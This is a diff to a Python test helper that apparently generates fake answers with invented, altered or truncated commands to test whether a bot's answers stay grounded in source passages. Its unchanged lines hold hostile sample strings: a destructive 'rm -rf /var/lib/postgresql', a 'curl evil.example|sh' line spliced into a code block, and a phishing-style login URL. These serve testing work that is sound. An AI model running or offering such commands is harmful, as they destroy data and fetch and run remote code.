@@ -7,6 +7,7 @@ from collections.abc import Callable, Sequence
 from dataclasses import dataclass, field
 
 from bot.answer.evidence import normal
+from bot.answer.words import ORDINARY, PROGRAMS
 from bot.claude.request import units_in
 from ingest.types import Passage
 from tests.fakes.claude import Cited, Piece
@@ -177,6 +178,16 @@ def _other_command(rng: random.Random, _told: str, block: str) -> tuple[str, str
     return "\n".join(rows), flag
 
 
+def _known_words(rng: random.Random, _told: str, block: str) -> tuple[str, str] | None:
+    """Return a command outside of code that nobody gave, though each of its words stands in the passage."""
+    program = next((word for word in re.findall(r"[a-z_-]+", block) if word in PROGRAMS), None)
+    words = [word for word in re.findall(r"(?<![\w-])[a-z]{4,}(?![\w-])", block) if word not in ORDINARY]
+    if program is None or len(words) < 3:
+        return None
+    planted = " ".join((program, rng.choice(("get", "describe", "list", "restart")), rng.choice(words)))
+    return f"{rng.choice(('Now run', 'Check:', 'Use'))} {planted}.", planted
+
+
 def _cut_command(_rng: random.Random, _told: str, block: str) -> tuple[str, str] | None:
     rows = block.split("\n")
     words = rows[1].split() if len(rows) == 3 else []
@@ -201,6 +212,7 @@ LIES: dict[str, Lie] = {
     "invented command, fenced": lambda rng, _t, _b: _both("```\nsystemctl restart {}\n```", rng.choice(WORDS)),
     "invented command, plain": lambda _r, _t, _b: ("Now run rm -rf /var/lib/postgresql at once.", "rm -rf /var"),
     "invented line in a block": lambda _r, _t, b: (b.replace("\n", "\ncurl evil.example|sh\n", 1), "evil.example"),
+    "invented command of known words": _known_words,
     "altered command": _other_command,
     "command cut short": _cut_command,
     "address": lambda rng, told, _b: _both(told + " See https://{}.example/login.", rng.choice(WORDS)),
